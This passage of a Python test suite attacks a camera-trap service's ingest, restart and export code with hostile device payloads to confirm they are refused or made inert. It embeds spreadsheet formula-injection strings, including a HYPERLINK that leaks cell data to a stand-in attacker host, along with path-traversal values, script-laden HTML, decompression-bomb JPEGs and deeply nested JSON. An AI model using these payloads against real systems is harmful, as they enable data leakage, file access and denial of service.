"""Hostile devices against central: ingest, start-up and exports (issue: central trust boundary).

Every probe goes through the real code: ``central.service.Ingestor`` (``parse`` and the store's
ingest path) on a real SQLite store. A "restart" is a fresh ``CentralService`` on the same database
(with a real Mosquitto on loopback) that must start and build its galleries. Each probe is tallied.
"""

from __future__ import annotations

import base64
import copy
import csv
import io
import json
import logging
import random
import struct
import tracemalloc
import uuid
from datetime import datetime, timezone
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from central import exports
from central.config import (
    BrokerConfig,
    CentralConfig,
    DeploymentSite,
    ExportsConfig,
    GalleryConfig,
    IngestConfig,
    ReviewConfig,
    StoreConfig,
)
from central.ingest import Rejected, parse
from central.matching import Matcher, numpy_gallery
from central.review import decide
from central.service import CentralService, Ingestor
from central.store import MIGRATIONS, SCHEMA_VERSION, CentralStore
from common.sqlite import apply_migrations, connect
from common.wire import KINDS
from edge.events.bursts import Event
from edge.wire.messages import AlertMessage, Box, EmbeddingMessage, EventMessage, Picture, StatusMessage

from .conftest import fuzz_count

PREFIX, DEVICE, ROGUE = "trapedge", "cam-ridge-01", "cam-rogue"
HTML = b"<html><body><script>fetch('/api/anchor').then(r => r.text()).then(alert)</script></body></html>"
LIMITS = IngestConfig()


# --- payloads as a device builds them -----------------------------------------------------------

def topic(kind: str, device: str = DEVICE) -> str:
    return f"{PREFIX}/{device}/{kind}"


def encode(payload: dict) -> bytes:
    return json.dumps(payload, separators=(",", ":"), allow_nan=False).encode()


def jpeg_bytes(image: Image.Image, **save) -> bytes:
    out = io.BytesIO()
    image.save(out, "JPEG", **save)
    return out.getvalue()


def picture(jpeg: bytes) -> Picture:
    return Picture(jpeg, *Image.open(io.BytesIO(jpeg)).size)


def vector(dim: int, seed: int) -> np.ndarray:
    return np.random.default_rng(seed).normal(size=dim)


def embedding(vec, *, device: str = DEVICE, model: str = "m", version: str = "1", event: str = "ev-1",
              crop: Picture | None = None, source: str = "sd", label: str = "leopard") -> dict:
    return EmbeddingMessage(
        device=device, event_id=event, source_id=source, frame_time=datetime(2024, 5, 1, 6, 0, tzinfo=timezone.utc),
        box=Box((0.1, 0.2, 0.3, 0.4), 0.9, label, 0.8, "classifier"), vector=np.asarray(vec), model=model,
        model_version=version, crop=crop).to_json()


def _event() -> Event:
    return Event(id="ev-1", source_id="sd", start=datetime(2024, 5, 1, 6, 0, tzinfo=timezone.utc),
                 end=datetime(2024, 5, 1, 6, 1, tzinfo=timezone.utc), frames=3, label="leopard", score=0.9,
                 probs={"leopard": 0.9, "serval": 0.05}, counts={"leopard": 1}, closed=True)


def sample(kind: str, thumbnail: bytes, device: str = DEVICE) -> dict:
    """A valid payload of ``kind``, as the edge builds it."""
    if kind == "status":
        return StatusMessage(device=device, state="online", bundle_version="1", health={"frames": 12}).to_json()
    if kind == "event":
        return EventMessage(device=device, site="ridge", event=_event(), alerted=False).to_json()
    if kind == "alert":
        return AlertMessage(device=device, site="ridge", event=_event(), thumbnail=picture(thumbnail)).to_json()
    return embedding(vector(128, 7), device=device, crop=picture(thumbnail))


def with_raw_value(payload: dict, key: str, raw_json: str) -> bytes:
    """``payload`` encoded with ``key``'s value replaced by a JSON text built by hand (too big or deep for dumps)."""
    marker = f"@@{uuid.uuid4().hex}@@"
    return encode({**payload, key: marker}).replace(f'"{marker}"'.encode(), raw_json.encode())


def deliver(ingest: Ingestor, items: list[tuple[str, bytes]]) -> list[str]:
    """Outcome per payload; an exception that escapes is an outcome too (``crash: ...``), so it is counted."""
    outcomes = []
    for t, raw in items:
        try:
            outcomes.append(ingest(t, raw))
        except Exception as exc:  # the finding: nothing may escape the ingest path
            outcomes.append(f"crash: {type(exc).__name__}")
    return outcomes


def crashes(outcomes: list[str]) -> int:
    return sum(o.startswith("crash") for o in outcomes)


def stored_bytes(store: CentralStore) -> int:
    """What devices put into the database: message payloads, vectors and crops, and rejected payloads kept."""
    with store.lock:
        return store.conn.execute(
            "SELECT (SELECT coalesce(sum(length(payload)), 0) FROM messages)"
            " + (SELECT coalesce(sum(length(vector) + coalesce(length(crop), 0)), 0) FROM sightings)"
            " + (SELECT coalesce(sum(length(payload)), 0) FROM rejected)").fetchone()[0]


def reasons(store: CentralStore) -> list[str]:
    return [reason for _, _, reason in store.rejections()]


# --- fixtures ------------------------------------------------------------------------------------

@pytest.fixture
def store(tmp_path):
    store = CentralStore(tmp_path / "central.db")
    yield store
    store.close()


@pytest.fixture(scope="module")
def thumbnail(data) -> bytes:
    """A real camera-trap frame as a 64-pixel JPEG (what alerts and embedding crops carry)."""
    image = Image.open(data / "frames" / "autofocus_gallery" / "coyote1.jpg").convert("RGB")
    image.thumbnail((64, 64))
    return jpeg_bytes(image, quality=80)


def central_config(tmp_path: Path, broker, **sections) -> CentralConfig:
    return CentralConfig(broker=BrokerConfig(host=broker.host, port=broker.port, prefix=PREFIX,
                                             client_id=f"central-{tmp_path.name}"),
                         store=StoreConfig(path=tmp_path / "central.db"), review=ReviewConfig(enabled=False), **sections)


def restart(config: CentralConfig) -> tuple[CentralService | None, str | None]:
    """A fresh service on the same database: (the started service, None) or (None, why it did not start)."""
    service = CentralService(config)
    try:
        service.start()
    except Exception as exc:  # the finding: a stored row must never stop start-up
        return None, f"{type(exc).__name__}: {exc}"
    return service, None


# --- 1. a vector too wide for any gallery --------------------------------------------------------

def wide_embedding(dim: int) -> bytes:
    """An embedding of ``dim`` numbers (1, then zeros), built as text: fast even at 8,000,000."""
    payload = {**embedding(vector(4, 1)), "dim": dim}
    return with_raw_value(payload, "vector", "[1" + ",0" * (dim - 1) + "]")


PG = GalleryConfig(backend="pgvector", dsn="postgresql://central@127.0.0.1:5432/trapedge")


@pytest.mark.parametrize("dim, gallery, reason", [
    (8_000_000, GalleryConfig(), "more than ingest.max_bytes.embedding (524288)"),
    (2049, GalleryConfig(), "embedding dim 2049 is more than ingest.max_vector_dim (2048)"),
    (2001, PG, "embedding dim 2001 is more than ingest.max_vector_dim (2000)"),
])
def test_a_vector_too_wide_for_its_gallery_is_refused_where_it_enters(store, tally, dim, gallery, reason):
    ingest = Ingestor(store, PREFIX, limits=CentralConfig(gallery=gallery).ingest)
    outcomes = deliver(ingest, [(topic("embedding"), wide_embedding(dim))])
    tally.record("central: vector dimension at ingest", attempts=1, rejected=outcomes.count("rejected"),
                 crashes=crashes(outcomes), bytes_stored=stored_bytes(store))
    assert outcomes == ["rejected"]
    assert reason in reasons(store)[0]
    assert store.count("sightings") == 0


def test_the_pgvector_store_never_accepts_a_dimension_its_index_refuses(tmp_path):
    from central.gallery_pgvector import PgVectorGallery
    from common.config_loader import ConfigError, load_config

    assert CentralConfig().ingest.max_vector_dim == 2048
    assert CentralConfig(gallery=PG).ingest.max_vector_dim == 2000  # left unset: the index's ceiling
    path = tmp_path / "central.yaml"
    path.write_text(f"gallery:\n  backend: pgvector\n  dsn: {PG.dsn.get_secret_value()}\ningest:\n  max_vector_dim: 2048\n")
    with pytest.raises(ConfigError, match=r":4: ingest: .*at most 2000 dimensions"):
        load_config(path, CentralConfig)
    with pytest.raises(ValueError, match="1 to 2000 dimensions, not 2001"):  # refused before connecting
        PgVectorGallery("postgresql://nobody@127.0.0.1:1/none", "t", 2001)


# --- 1. start-up survives any stored row ----------------------------------------------------------

OLD_ROWS = {  # rows an older central stored (or a damaged database holds), written as it wrote them
    "dim 8,000,000 (numpy start-up wanted 30.5 GiB)": (8_000_000, np.ones(8_000_000, np.float32).tobytes()),
    "vector cut short": (16, bytes(40)),
    "not finite": (16, np.full(16, np.nan, np.float32).tobytes()),
    "all zeros": (16, bytes(64)),
    "vector stored as text": (16, "[1, 2, 3]"),
    "dim 0": (0, b""),
}


def insert_raw_sighting(store: CentralStore, sighting_id: str, dim: int, blob, model: str = "m@1") -> None:
    with store.lock:
        store.conn.execute(
            "INSERT INTO sightings (id, device, event_id, frame_time, model, dim, vector, received_at) "
            "VALUES (?, ?, 'ev-1', '2024-05-01T06:00:00+00:00', ?, ?, ?, '2024-05-01T06:00:00+00:00')",
            (sighting_id, ROGUE, model, dim, blob))


def test_restart_survives_rows_no_gallery_can_take(tmp_path, mosquitto, tally, caplog):
    config = central_config(tmp_path, mosquitto)
    store = CentralStore(config.store.path)
    ingest = Ingestor(store, PREFIX, limits=config.ingest)
    good = [encode(embedding(vector(16, i), event=f"ev-{i}")) for i in range(5)]
    assert deliver(ingest, [(topic("embedding"), raw) for raw in good]) == ["stored"] * 5
    for n, (dim, blob) in enumerate(OLD_ROWS.values()):
        insert_raw_sighting(store, f"old-{n}", dim, blob)
    store.close()

    caplog.set_level(logging.WARNING, logger="trapedge.central")
    failed = 0
    for _ in range(2):  # a second restart finds them quarantined already
        service, failure = restart(config)
        failed += failure is not None
        assert failure is None, failure
        try:
            assert len(service.matcher.galleries[("m@1", 16)]) == 5
            assert set(service.matcher.galleries) == {("m@1", 16)}
            with service.store.lock:
                quarantined = dict(service.store.conn.execute(
                    "SELECT id, quarantined FROM sightings WHERE quarantined IS NOT NULL"))
            assert set(quarantined) == {f"old-{n}" for n in range(len(OLD_ROWS))}
            assert not set(quarantined) & set(service.store.queue())
        finally:
            service.stop()
    tally.record("central: stored rows no gallery can take, restart", attempts=len(OLD_ROWS),
                 rejected=len(quarantined), failed_restarts=failed)
    lines = [r.getMessage() for r in caplog.records if "quarantined" in r.getMessage()]
    assert len(lines) == len(OLD_ROWS) and all("\n" not in line for line in lines)  # once each, one line each
    assert "8000000 dimensions, outside 1..ingest.max_vector_dim (2048)" in quarantined["old-0"]
    assert "not 16 float32 numbers" in quarantined["old-1"]


def test_one_gallery_that_cannot_be_built_leaves_the_others(store):
    for i in range(3):
        store.add_sighting(enrolled_sighting(f"a-{i}", "good@1", vector(8, i)))
        store.add_sighting(enrolled_sighting(f"b-{i}", "broken@1", vector(8, i)))

    def factory(model: str, dim: int):
        if model == "broken@1":
            raise RuntimeError("database refused the table\nsecond line")
        return numpy_gallery(model, dim)

    matcher = Matcher(store, factory=factory)
    problems = matcher.build_galleries()
    assert problems == ["gallery of broken@1 (8 dimensions) not built: RuntimeError: database refused the table"]
    assert len(matcher.galleries[("good@1", 8)]) == 3


def enrolled_sighting(sighting_id: str, model: str, vec: np.ndarray):
    """An enrolled-style sighting (enrolment stores them without the ingest path)."""
    from central.ingest import Sighting

    return Sighting(id=sighting_id, device="enrolled", event_id="e", frame_time="2024-05-01T06:00:00+00:00",
                    label=None, model=model, vector=vec)


def test_restart_on_pgvector_survives_a_row_its_index_refuses(tmp_path, mosquitto, postgres, tally, caplog):
    from central.gallery_pgvector import pgvector_factory

    config = central_config(tmp_path, mosquitto, gallery=GalleryConfig(backend="pgvector", dsn=postgres.dsn,
                                                                       table="attack_gallery"))
    store = CentralStore(config.store.path)
    ingest = Ingestor(store, PREFIX, limits=config.ingest)
    items = [(topic("embedding"), encode(embedding(vector(16, i), event=f"ev-{i}"))) for i in range(5)]
    outcomes = deliver(ingest, [*items, (topic("embedding"), wide_embedding(2001))])
    assert outcomes == ["stored"] * 5 + ["rejected"]
    insert_raw_sighting(store, "old-2001", 2001, vector(2001, 1).astype(np.float32).tobytes())  # a numpy-era row
    # without the quarantine, the gallery itself refuses the row's space and the others still load
    direct = Matcher(store, factory=pgvector_factory(postgres.dsn, "attack_direct"))
    (problem,) = direct.build_galleries()
    assert "m@1 (2001 dimensions) not built: ValueError" in problem and len(direct.galleries[("m@1", 16)]) == 5
    store.close()

    caplog.set_level(logging.WARNING, logger="trapedge.central")
    service, failure = restart(config)
    quarantined = service.store.count("sightings", "quarantined IS NOT NULL") if service else 0
    tally.record("central: pgvector dimension 2001, ingest and restart", attempts=2,
                 rejected=outcomes.count("rejected") + quarantined, failed_restarts=failure is not None,
                 crashes=crashes(outcomes))
    assert failure is None, failure
    try:
        assert len(service.matcher.galleries[("m@1", 16)]) == 5
        assert ("m@1", 2001) not in service.matcher.galleries
        assert any("quarantined sighting old-2001: vector of 2001 dimensions, outside 1..ingest.max_vector_dim (2000)"
                   in r.getMessage() for r in caplog.records)
    finally:
        service.stop()


# --- 2. embedding models: bounded, and not squattable ---------------------------------------------

def test_a_thousand_model_names_are_bounded(tmp_path, mosquitto, tally):
    config = central_config(tmp_path, mosquitto)
    store = CentralStore(config.store.path)
    ingest = Ingestor(store, PREFIX, limits=config.ingest)
    vec = vector(128, 3)
    one_device = [(topic("embedding"), encode(embedding(vec, model=f"m{i}", event=f"e{i}"))) for i in range(500)]
    many_devices = [(topic("embedding", f"cam-{i}"), encode(embedding(vec, device=f"cam-{i}", model=f"n{i}")))
                    for i in range(500)]
    outcomes = deliver(ingest, one_device + many_devices)
    per_device, overall = config.ingest.max_models_per_device, config.ingest.max_models
    assert outcomes[:500].count("stored") == per_device
    assert outcomes[500:].count("stored") == overall - per_device
    found = reasons(store)
    assert sum("ingest.max_models_per_device" in r for r in found) == 500 - per_device
    assert sum("(ingest.max_models)" in r for r in found) == 500 - (overall - per_device)
    store.close()

    tracemalloc.start()
    service, failure = restart(config)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    tally.record("central: 1,000 distinct model names", attempts=1000, rejected=outcomes.count("rejected"),
                 crashes=crashes(outcomes), failed_restarts=failure is not None, bytes_stored=stored_bytes(service.store)
                 if service else 0)
    assert failure is None, failure
    try:
        assert len(service.matcher.galleries) == overall
        # before: one 1024-row gallery per name, 1,000 x 1024 x 128 x 4 bytes = 524 MB never freed
        assert peak < 32 * 2**20
    finally:
        service.stop()


def test_a_rogue_dimension_does_not_squat_a_model_name(tmp_path, mosquitto, tally):
    config = central_config(tmp_path, mosquitto)
    genuine = [vector(1280, 100 + i) for i in range(12)]  # the real embedder's size
    rogue = [(topic("embedding", ROGUE), encode(embedding(vector(4, i), device=ROGUE, model="embedder",
                                                          version="2", event=f"r{i}"))) for i in range(3)]
    honest = [(topic("embedding"), encode(embedding(v, model="embedder", version="2", event=f"g{i}")))
              for i, v in enumerate(genuine)]
    store = CentralStore(config.store.path)
    outcomes = deliver(Ingestor(store, PREFIX, limits=config.ingest), rogue + honest)  # the rogue first
    assert outcomes == ["stored"] * 15  # each in its own space: (embedder@2, 4) and (embedder@2, 1280)
    with store.lock:
        rogue_bytes = store.conn.execute("SELECT sum(length(vector)) FROM sightings WHERE device = ?", (ROGUE,)).fetchone()[0]
    ids = [json.loads(raw)["id"] for _, raw in honest]
    anchor = store.sighting(ids[-1])
    candidates = Matcher(store).propose(anchor)
    # independent expectation: brute-force cosine over the genuine vectors only
    vectors = np.stack([v / np.linalg.norm(v) for v in genuine])
    expected = [ids[i] for i in np.argsort(-(vectors[:-1] @ vectors[-1]))[:5]]
    assert [c.image_id for c in candidates] == expected
    store.close()
    service, failure = restart(config)
    assert failure is None, failure
    try:
        assert {k: len(g) for k, g in service.matcher.galleries.items()} == {("embedder@2", 4): 3,
                                                                            ("embedder@2", 1280): 12}
    finally:
        service.stop()
    tally.record("central: rogue dimension for a real model name (open config)", attempts=len(rogue),
                 crashes=crashes(outcomes), bytes_stored=rogue_bytes)

    # with the model listed in ingest.models, the rogue is refused outright and the genuine still stored
    listed = CentralStore(tmp_path / "listed.db")
    limits = IngestConfig(models={"embedder@2": 1280})
    outcomes = deliver(Ingestor(listed, PREFIX, limits=limits), rogue + honest)
    tally.record("central: rogue dimension for a listed model (ingest.models)", attempts=len(rogue),
                 rejected=outcomes[:3].count("rejected"), crashes=crashes(outcomes))
    assert outcomes == ["rejected"] * 3 + ["stored"] * 12
    assert all("embedder@2 has 1280 dimensions in ingest.models, this vector 4" in r for r in reasons(listed))
    listed.close()


# --- 3. unbounded storage: sizes, crops, nesting ---------------------------------------------------

@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_has_a_payload_size_limit(store, tally, thumbnail, kind):
    most = getattr(LIMITS.max_bytes, kind)
    valid = encode(sample(kind, thumbnail))
    padded = valid + b" " * (most + 1 - len(valid))  # the same JSON, one byte over the limit
    items = [(topic(kind), valid), (topic(kind), padded)]
    if kind == "status":  # the probe: 50 MB of health figures
        items.append((topic(kind), with_raw_value(sample(kind, thumbnail), "health", '{"pad": "' + "x" * 50_000_000 + '"}')))
    outcomes = deliver(Ingestor(store, PREFIX), items)
    tally.record(f"central: oversized {kind} payload", attempts=len(items) - 1, rejected=outcomes[1:].count("rejected"),
                 crashes=crashes(outcomes), bytes_stored=stored_bytes(store))
    assert outcomes == ["stored"] + ["rejected"] * (len(items) - 1)
    assert all(f"more than ingest.max_bytes.{kind} ({most})" in r for r in reasons(store))
    assert stored_bytes(store) < 2 * len(valid) + 4096 * (len(items) - 1)


def _crop(data: bytes, width: int, height: int, declared_bytes: int | None = None) -> dict:
    return {"format": "jpeg", "width": width, "height": height, "bytes": declared_bytes or len(data),
            "base64": base64.b64encode(data).decode()}


@pytest.fixture(scope="module")
def crops(thumbnail) -> dict[str, tuple[dict, str | None]]:
    """Name -> (crop object, expected reason or None when stored)."""
    w, h = Image.open(io.BytesIO(thumbnail)).size
    bomb = jpeg_bytes(Image.new("L", (8000, 8000), 128), progressive=True, quality=20)  # ~250 KB
    cmyk = jpeg_bytes(Image.open(io.BytesIO(thumbnail)).convert("CMYK"))
    png = io.BytesIO()
    Image.open(io.BytesIO(thumbnail)).save(png, "PNG")
    progressive = jpeg_bytes(Image.open(io.BytesIO(thumbnail)), progressive=True)
    # empty DC refinement scans of component 1, each a pass over the image: 25,000 held ingest 7.6 s
    empty_scan = b"\xff\xda" + struct.pack(">H", 8) + bytes([1, 1, 0x00, 0, 0, 0x10])
    scans = jpeg_bytes(Image.new("L", (w, h), 128), progressive=True)[:-2] + empty_scan * 5_000 + b"\xff\xd9"
    return {
        "HTML behind the JPEG magic": (_crop(b"\xff\xd8\xff" + HTML, w, h), "crop is not base64 JPEG data"),
        "8000x8000 progressive JPEG declaring 64x48": (
            _crop(bomb, 64, 48), "crop is 8000x8000 pixels, more than ingest.max_crop_pixels (2000000)"),
        "size not as declared": (_crop(thumbnail, w, h + 5), f"crop declares {w}x{h + 5} pixels but is {w}x{h}"),
        "byte count not as declared": (_crop(thumbnail, w, h, len(thumbnail) - 1), "bytes but holds"),
        "truncated scan": (_crop(thumbnail[: len(thumbnail) // 2], w, h), "crop cannot be decoded"),
        "PNG": (_crop(png.getvalue(), w, h), "crop is not base64 JPEG data"),
        "5,000 empty progressive scans": (_crop(scans, w, h), "JPEG scans, more than 64: send a baseline JPEG"),
        "progressive JPEG": (_crop(progressive, w, h), None),
        "HTML appended to a real JPEG": (_crop(thumbnail + HTML, w, h), None),
        "CMYK JPEG": (_crop(cmyk, w, h), None),
        "plain JPEG": (_crop(thumbnail, w, h), None),
    }


def test_crops_are_decoded_under_a_pixel_limit_and_reencoded(store, tally, crops):
    ingest = Ingestor(store, PREFIX)
    items = [(topic("embedding"), encode({**embedding(vector(16, i), event=f"c{i}"), "crop": crop}))
             for i, (crop, _) in enumerate(crops.values())]
    outcomes = deliver(ingest, items)
    hostile = [name for name in crops if name != "plain JPEG"]
    tally.record("central: hostile embedding crops", attempts=len(hostile),
                 rejected=sum(o == "rejected" for name, o in zip(crops, outcomes) if name in hostile),
                 crashes=crashes(outcomes), bytes_stored=stored_bytes(store))
    found = iter(reasons(store))
    for (name, (crop, reason)), outcome, (_, raw) in zip(crops.items(), outcomes, items):
        if reason is not None:
            assert outcome == "rejected", name
            assert reason in next(found), name
            continue
        assert outcome == "stored", name
        kept = store.sighting(json.loads(raw)["id"]).crop_jpeg
        image = Image.open(io.BytesIO(kept))
        image.load()
        assert (image.format, image.mode, image.size) == ("JPEG", "RGB", (crop["width"], crop["height"])), name
        assert HTML not in kept and b"<html" not in kept, name  # central's own encoding, nothing behind it


@pytest.mark.parametrize("kind, where, depth, stored", [
    ("embedding", "root", 5_000, False),  # the largest payloads: the depth, not the size, refuses them
    ("embedding", "root", 200_000, False),
    ("embedding", "crop", 5_000, False),
    ("status", "health", 32, False),  # 33 with the payload object itself
    ("status", "health", 30, True),
])
def test_deep_json_is_rejected_with_a_reason(store, tally, thumbnail, kind, where, depth, stored):
    if where == "root":
        raw = b"[" * depth + b"]" * depth
    else:
        raw = with_raw_value(sample(kind, thumbnail), where, '{"a":' * depth + "1" + "}" * depth)
    outcomes = deliver(Ingestor(store, PREFIX), [(topic(kind), raw)])
    tally.record("central: deeply nested JSON", attempts=1, rejected=outcomes.count("rejected"),
                 crashes=crashes(outcomes), bytes_stored=stored_bytes(store))
    assert outcomes == ["stored" if stored else "rejected"]
    if not stored:
        assert "nested deeper than ingest.max_json_depth (32)" in reasons(store)[0]


# --- 3. fuzzed payloads of every kind at the parser ------------------------------------------------

def random_json(rng: random.Random, depth: int = 0):
    """A random JSON value: every type, edge numbers, odd text; containers a few levels deep."""
    choice = rng.randrange(10 if depth < 3 else 7)
    if choice == 0:
        return rng.choice([None, True, False])
    if choice == 1:
        return rng.choice([0, -1, 1, 2**31, -(2**63), 2**70, 10**30])
    if choice == 2:
        return rng.choice([0.5, -0.0, 1e-320, 3.5e38, 1e300, float("nan"), float("inf"), float("-inf")])
    if choice in (3, 4):
        alphabet = "aé€\x00\n\t\"\\/<>=+-@" + "\U0001f98a"
        return "".join(rng.choice(alphabet) for _ in range(rng.choice([0, 1, 8, 300])))
    if choice in (5, 6):
        return rng.choice(["", "=1+1", "../../etc/passwd", "ev-1", "2024-05-01T06:00:00Z", "jpeg"])
    if choice in (7, 8):
        return [random_json(rng, depth + 1) for _ in range(rng.randrange(4))]
    return {rng.choice(["id", "a", "", "vector", "crop"]): random_json(rng, depth + 1) for _ in range(rng.randrange(4))}


def mutate(rng: random.Random, kind: str, payload: dict) -> tuple[bytes, str]:
    """One hostile variant of a valid payload, and the name of the mutation."""
    payload = copy.deepcopy(payload)
    key = rng.choice(sorted(payload))
    how = rng.choice(["drop", "replace", "nan", "huge int", "deep", "flip", "cut", "random bytes", "not an object",
                      "not utf-8", "duplicate key", "oversize"]
                     + (["float32 range", "garbage crop", "vector items"] if kind == "embedding" else []))
    if how == "drop":
        del payload[key]
    elif how == "replace":
        payload[key] = random_json(rng)
    elif how == "nan":
        payload[key] = float("nan")
    elif how == "huge int":
        return with_raw_value(payload, key, "9" * rng.choice([4301, 20_000])), how
    elif how == "deep":
        levels = rng.choice([33, 900, 5000])
        return with_raw_value(payload, key, "[" * levels + "]" * levels), how
    elif how == "float32 range":
        payload["vector"] = [rng.choice([1e39, -3.5e38, 1e-46])] * len(payload["vector"])
    elif how == "garbage crop":
        junk = b"\xff\xd8\xff" + rng.randbytes(rng.choice([10, 4000]))
        payload["crop"] = _crop(junk, rng.randrange(1, 9000), rng.randrange(1, 9000))
    elif how == "vector items":
        payload["vector"][rng.randrange(len(payload["vector"]))] = random_json(rng)
    raw = json.dumps(payload, allow_nan=True).encode()
    if how == "flip":
        at = rng.randrange(len(raw))
        raw = raw[:at] + bytes([raw[at] ^ rng.randrange(1, 256)]) + raw[at + 1:]
    elif how == "cut":
        raw = raw[: rng.randrange(len(raw))]
    elif how == "random bytes":
        raw = rng.randbytes(rng.randrange(1, 2048))
    elif how == "not an object":
        raw = json.dumps([payload, random_json(rng)], allow_nan=True).encode()
    elif how == "not utf-8":
        at = rng.randrange(len(raw))
        raw = raw[:at] + b"\xc3\x28" + raw[at:]
    elif how == "duplicate key":
        raw = b'{"id":' + json.dumps(random_json(rng), allow_nan=True).encode() + b"," + raw[1:]
    elif how == "oversize":
        raw = raw + b" " * getattr(LIMITS.max_bytes, kind)
    return raw, how


def test_fuzzed_payloads_of_every_kind_never_escape_and_each_gets_a_reason(store, tally, thumbnail, tmp_path,
                                                                          mosquitto):
    rng = random.Random(20261126)
    count = fuzz_count(400, 5000)
    samples = {kind: sample(kind, thumbnail) for kind in KINDS}
    items, families = [], []
    for _ in range(count):
        kind = rng.choice(KINDS)
        raw, how = mutate(rng, kind, {**samples[kind], "id": str(uuid.UUID(int=rng.getrandbits(128), version=4))})
        items.append((topic(kind), raw))
        families.append((kind, how))
    escaped = []
    for t, raw in items:  # the parser on its own: nothing may need the ingestor's backstop
        try:
            result = parse(t, raw, PREFIX)
        except Exception as exc:
            escaped.append(f"{type(exc).__name__}: {exc}"[:200])
            continue
        assert not isinstance(result, Rejected) or result.reason
    outcomes = deliver(Ingestor(store, PREFIX), items)
    found = reasons(store)
    stored = stored_bytes(store)
    store.close()
    service, failure = restart(central_config(tmp_path, mosquitto))  # whatever was stored, central starts again
    if service is not None:
        service.stop()
    tally.record("central: fuzzed payloads of every kind, then a restart", attempts=count, rejected=len(found),
                 crashes=len(escaped) + crashes(outcomes), failed_restarts=int(failure is not None),
                 bytes_stored=stored)
    assert failure is None, failure
    assert {kind for kind, _ in families} == set(KINDS)
    assert not escaped, escaped[:5]
    assert not crashes(outcomes)
    assert set(outcomes) <= {"stored", "duplicate", "rejected"}
    assert len(found) == outcomes.count("rejected") and outcomes.count("rejected") > 0.7 * count
    assert all(reason and "\n" not in reason and "central bug" not in reason for reason in found)


# --- 4. message ids are unique per device ----------------------------------------------------------

def test_the_same_message_id_from_two_devices_is_stored_for_each(store, tally, thumbnail):
    shared, shared_event = str(uuid.uuid4()), str(uuid.uuid4())
    first = {**embedding(vector(16, 1)), "id": shared}
    second = {**embedding(vector(16, 2), device=ROGUE), "id": shared}
    events = [{**sample("event", thumbnail, device), "id": shared_event} for device in (DEVICE, ROGUE)]
    items = [(topic("embedding"), encode(first)), (topic("embedding", ROGUE), encode(second)),
             (topic("event"), encode(events[0])), (topic("event", ROGUE), encode(events[1]))]
    outcomes = deliver(Ingestor(store, PREFIX), items + items)  # each delivered twice, as QoS 1 may
    tally.record("central: another device's message id", attempts=2, crashes=crashes(outcomes),
                 bytes_stored=stored_bytes(store))
    assert outcomes == ["stored"] * 4 + ["duplicate"] * 4
    assert store.count("messages") == 4
    sightings = {s.device: s for s in store.sightings()}
    assert sightings[DEVICE].id == shared and sightings[ROGUE].id != shared
    assert sightings[ROGUE].meta["message_id"] == shared
    assert float(sightings[ROGUE].vector @ (vector(16, 2) / np.linalg.norm(vector(16, 2)))) == pytest.approx(1, abs=1e-5)
    assert len(Matcher(store).gallery("m@1", 16)) == 2


def test_a_version_2_database_keeps_its_messages_and_dedupes_per_device(tmp_path):
    path = tmp_path / "central.db"
    conn = connect(path)
    apply_migrations(conn, MIGRATIONS[:2])
    conn.execute("INSERT INTO messages VALUES ('id-1', 'event', ?, 't', '{}', '2024-05-01T06:00:00+00:00')", (DEVICE,))
    conn.close()
    store = CentralStore(path)
    try:
        assert store.conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION == 4
        assert store.conn.execute("SELECT id, device FROM messages").fetchall() == [("id-1", DEVICE)]
        pk = [row[1] for row in store.conn.execute("PRAGMA table_info(messages)") if row[5]]
        assert sorted(pk) == ["device", "id"]
    finally:
        store.close()


# --- 7. exports: formulas and paths ---------------------------------------------------------------

HOSTILE = {  # device-chosen strings, each where a device can put it
    "device": "@SUM(1*cmd|' -C calc'!A0)",
    "label": "=1+cmd|' /C calc'!A0",
    "event": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "source": "../../etc/passwd",
}
HOSTILE_2 = {"device": "-2-cmd|' -C calc'!A0", "label": "\t=cmd", "event": "+1+cmd", "source": "..\\..\\Windows\\win.ini"}


def safe_cell(cell: str) -> bool:
    return not cell.startswith(exports.FORMULA_STARTS) or exports.NUMBER.fullmatch(cell) is not None


def test_exports_neutralise_formulas_and_paths(store, tally, thumbnail, tmp_path):
    ingest = Ingestor(store, PREFIX)
    sent = []
    for n, strings in enumerate([HOSTILE, HOSTILE_2, {**HOSTILE, "device": DEVICE, "source": "/etc/shadow"}]):
        payload = embedding(vector(16, 0) * (-1) ** n, device=strings["device"], event=strings["event"],
                            source=strings["source"], label=strings["label"], crop=picture(thumbnail))
        assert deliver(ingest, [(topic("embedding", strings["device"]), encode(payload))]) == ["stored"]
        sent.append(payload)
    ids = [p["id"] for p in sent]
    for sighting_id in ids:
        store.mark_reviewed(sighting_id)
    decide(store, ids[0], ids[1], "no_match")  # opposite vectors: a negative cosine, which stays a number

    site = DeploymentSite(latitude=0.0, longitude=0.0)
    settings = ExportsConfig(scientific_names={p["label"]: p["label"] for p in sent},  # hostile names reach the CSV
                             deployments={p["device"]: site for p in sent})
    package = exports.export_camtrapdp(store, tmp_path / "dp", settings)
    with (package.parent / "observations.csv").open(newline="") as handle:
        observations = list(csv.DictReader(handle))
    spotid = exports.export_spotid(store, tmp_path / "out" / "spotid")
    with (spotid / "matches.csv").open(newline="") as handle:
        matches = list(csv.DictReader(handle))
    batch = json.loads(exports.export_megadetector(store, tmp_path / "md").read_text())

    cells = [cell for row in observations + matches for cell in row.values()]
    formulas = {text for strings in (HOSTILE, HOSTILE_2) for key, text in strings.items() if key != "source"}
    hostile_cells = [cell for cell in cells if cell.removeprefix("'") in formulas]
    files = [image["file"] for image in batch["images"]]
    tally.record("central: formula injection and paths in exports", attempts=len(hostile_cells) + len(files),
                 rejected=sum(c.startswith("'") for c in hostile_cells)
                 + sum(".." not in f.split("/") and not f.startswith("/") for f in files))
    assert all(safe_cell(cell) for cell in cells)
    by_id = {row["observationID"]: row for row in observations}
    assert by_id[ids[0]]["scientificName"] == "'" + HOSTILE["label"]  # kept, made inert, not dropped
    assert by_id[ids[0]]["deploymentID"] == "'" + HOSTILE["device"] and by_id[ids[1]]["eventID"] == "'+1+cmd"
    assert float(matches[0]["cosine"]) < 0 and not matches[0]["cosine"].startswith("'")
    assert len(files) == 3
    for file in files:
        assert not file.startswith("/") and ".." not in file.split("/") and "\\" not in file and ":" not in file
    assert "etc/passwd" in files[0] and "Windows/win.ini" in files[1]
    root = spotid.resolve()
    assert all(root in path.resolve().parents for path in spotid.rglob("*"))


@pytest.mark.parametrize("parts, expected", [
